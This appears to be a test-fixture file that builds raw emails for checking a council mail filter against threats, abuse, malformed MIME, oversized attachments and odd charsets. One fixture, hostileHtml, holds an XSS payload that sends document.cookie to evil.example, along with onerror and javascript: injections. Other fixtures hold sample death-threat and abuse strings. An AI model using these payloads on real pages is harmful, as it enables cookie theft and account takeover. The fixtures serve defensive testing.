// Raw test messages, as a mail server would store them (CRLF line ends).
import { randomUUID } from 'node:crypto';

export const THREAT_TO_LIFE = 'I am going to kill you, you will be dead by Friday.';
export const THREAT = 'I know where you live and I am coming for you.';
export const ABUSE = 'You are a useless fucking idiot and everyone knows it.';
export const CLEAN = 'Please could you look at the potholes on Mill Lane? Thank you.';

export interface Built {
  messageId: string;
  raw: string;
}

const crlf = (lines: string[]) => lines.join('\r\n');

export function textMessage(body: string, opts: { subject?: string; from?: string; messageId?: string; extraHeaders?: string[] } = {}): Built {
  const messageId = opts.messageId ?? `<${randomUUID()}@sender.example>`;
  return {
    messageId,
    raw: crlf([
      'Received: from mx.sender.example (mx.sender.example [192.0.2.10]) by mail.council.example; Mon, 23 Nov 2026 10:00:00 +0000',
      `From: ${opts.from ?? 'A Resident <resident@sender.example>'}`,
      'To: Cllr Alice Brown <alice@council.example>',
      `Subject: ${opts.subject ?? 'About the council'}`,
      'Date: Mon, 23 Nov 2026 10:00:00 +0000',
      `Message-ID: ${messageId}`,
      ...(opts.extraHeaders ?? []),
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      body,
      '',
    ]),
  };
}

/** A reply whose only abusive words are in the quoted part: must stay in the inbox. */
export function quotedAbuseReply(): Built {
  return textMessage(`Thanks for getting back to me, I appreciate it.\r\n\r\nOn Mon, 23 Nov 2026, Someone wrote:\r\n> ${ABUSE}`);
}

export function multipart(parts: string[], opts: { subject?: string; contentType?: string } = {}): Built {
  const messageId = `<${randomUUID()}@sender.example>`;
  const boundary = `b-${randomUUID()}`;
  return {
    messageId,
    raw: crlf([
      'From: resident@sender.example',
      'To: alice@council.example',
      `Subject: ${opts.subject ?? 'See attached'}`,
      'Date: Mon, 23 Nov 2026 10:00:00 +0000',
      `Message-ID: ${messageId}`,
      'MIME-Version: 1.0',
      `Content-Type: ${opts.contentType ?? 'multipart/mixed'}; boundary="${boundary}"`,
      '',
      ...parts.flatMap((p) => [`--${boundary}`, p]),
      `--${boundary}--`,
      '',
    ]),
  };
}

const base64Lines = (b: Buffer) => b.toString('base64').replace(/.{76}/g, '$&\r\n');

export function imageOnly(): Built {
  const png = Buffer.from(
    '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d6c3ee0000000049454e44ae426082',
    'hex',
  );
  return multipart(
    [
      crlf([
        'Content-Type: image/png; name="threat.png"',
        'Content-Disposition: attachment; filename="threat.png"',
        'Content-Transfer-Encoding: base64',
        '',
        base64Lines(png),
      ]),
    ],
    { subject: '' },
  );
}

/** No text part at all: a PDF and nothing else (what the filter cannot read must go to review). */
export function attachmentOnly(): Built {
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
  return multipart(
    [
      crlf([
        'Content-Type: application/pdf; name="letter.pdf"',
        'Content-Disposition: attachment; filename="letter.pdf"',
        'Content-Transfer-Encoding: base64',
        '',
        base64Lines(pdf),
      ]),
    ],
    { subject: 'see attached' },
  );
}

/**
 * `body` with thirty ~60 KiB attachments: over the filter's 1 MiB `maxMessageBytes`, yet no
 * single part large enough to replace, so it cannot be made small enough to file.
 */
export function manySmallAttachments(body: string, opts: { subject?: string } = {}): Built {
  const part = (i: number) =>
    [
      'Content-Type: application/pdf',
      `Content-Disposition: attachment; filename="page-${i}.pdf"`,
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.alloc(45_000, i).toString('base64').replace(/.{76}/g, '$&\r\n'),
    ].join('\r\n');
  return multipart([['Content-Type: text/plain; charset=utf-8', '', body].join('\r\n'), ...Array.from({ length: 30 }, (_, i) => part(i))], opts);
}

export function bigAttachment(bytes: number, body: string): Built {
  const blob = Buffer.alloc(bytes, 0x41);
  for (let i = 0; i < bytes; i += 4096) blob[i] = i & 0xff;
  return multipart([
    crlf(['Content-Type: text/plain; charset=utf-8', '', body]),
    crlf([
      'Content-Type: application/octet-stream; name="big.bin"',
      'Content-Disposition: attachment; filename="big.bin"',
      'Content-Transfer-Encoding: base64',
      '',
      base64Lines(blob),
    ]),
  ]);
}

export function emptyMessage(): Built {
  const messageId = `<${randomUUID()}@sender.example>`;
  return { messageId, raw: crlf(['From: resident@sender.example', 'To: alice@council.example', 'Subject:', `Message-ID: ${messageId}`, '', '']) };
}

export function malformedMime(): Built {
  const messageId = `<${randomUUID()}@sender.example>`;
  return {
    messageId,
    raw: crlf([
      'From: <<<broken@@',
      'To: alice@council.example',
      `Message-ID: ${messageId}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="never-closed"',
      '',
      '--never-closed',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      '!!!! not base64 at all ####',
      '--never-closed',
      'Content-Type: multipart/alternative; boundary=',
      '',
    ]),
  };
}

/** Text nested 60 multiparts down: past the shared parser's limit (50), so no reader reads it. */
export function nestedTooDeep(body: string, depth = 60): Built {
  const messageId = `<${randomUUID()}@sender.example>`;
  let part = crlf(['Content-Type: text/plain; charset=utf-8', '', body]);
  for (let i = depth; i > 0; i--) part = crlf([`Content-Type: multipart/mixed; boundary="n${i}"`, '', `--n${i}`, part, `--n${i}--`]);
  return {
    messageId,
    raw: crlf(['From: resident@sender.example', 'To: alice@council.example', 'Subject: layers', `Message-ID: ${messageId}`, 'MIME-Version: 1.0', part, '']),
  };
}

export function eightBitHeaders(body: string): Built {
  return textMessage(body, { subject: 'Grüße aus Köln — €100 ñandú', from: 'Jörg Müller <jörg@sender.example>' });
}

export function unknownCharset(body: string): Built {
  const messageId = `<${randomUUID()}@sender.example>`;
  return {
    messageId,
    raw: crlf([
      'From: resident@sender.example',
      'To: alice@council.example',
      'Subject: =?x-klingon-9?Q?qapla=E9?=',
      `Message-ID: ${messageId}`,
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=x-klingon-9',
      '',
      body,
      '',
    ]),
  };
}

export function hostileHtml(body: string): Built {
  const html = `<html><head><script>fetch('https://evil.example/'+document.cookie)</script><style>p{display:none}</style></head><body onload="alert(1)"><img src=x onerror="alert(2)"><iframe src="javascript:alert(3)"></iframe><p>${body}</p><a href="javascript:void(0)">click</a></body></html>`;
  return multipart([crlf(['Content-Type: text/html; charset=utf-8', '', html])], { contentType: 'multipart/alternative', subject: 'Read this' });
}

export function encryptedMessage(): Built {
  const messageId = `<${randomUUID()}@sender.example>`;
  const boundary = `enc-${randomUUID()}`;
  return {
    messageId,
    raw: crlf([
      'From: resident@sender.example',
      'To: alice@council.example',
      'Subject: ...',
      `Message-ID: ${messageId}`,
      'MIME-Version: 1.0',
      `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      'Content-Type: application/pgp-encrypted',
      '',
      'Version: 1',
      `--${boundary}`,
      'Content-Type: application/octet-stream',
      '',
      '-----BEGIN PGP MESSAGE-----',
      'hQEMA1234567890abcdefghijklmnopqrstuvwxyz',
      '-----END PGP MESSAGE-----',
      `--${boundary}--`,
      '',
    ]),
  };
}

/** A clean covering note with another message attached whole (`message/rfc822`), as mail clients forward (inline or as an attachment). */
export function forwarded(
  inner: Built,
  note = 'Thought you should see this, it came in this morning. Kind regards, Sam',
  disposition: 'attachment' | 'inline' = 'attachment',
): Built {
  return multipart(
    [
      crlf(['Content-Type: text/plain; charset=utf-8', '', note]),
      crlf([
        'Content-Type: message/rfc822',
        disposition === 'inline' ? 'Content-Disposition: inline' : 'Content-Disposition: attachment; filename="forwarded.eml"',
        '',
        inner.raw,
      ]),
    ],
    { subject: 'Fwd: have a look' },
  );
}

/** Plain ASCII text under a charset label that does not fit it (e.g. utf-16: decodes to CJK nonsense). */
export function mislabelledCharset(body: string, charset = 'utf-16'): Built {
  const messageId = `<${randomUUID()}@sender.example>`;
  return {
    messageId,
    raw: crlf([
      'From: resident@sender.example',
      'To: alice@council.example',
      'Subject: About the council',
      `Message-ID: ${messageId}`,
      'MIME-Version: 1.0',
      `Content-Type: text/plain; charset=${charset}`,
      '',
      body,
      '',
    ]),
  };
}
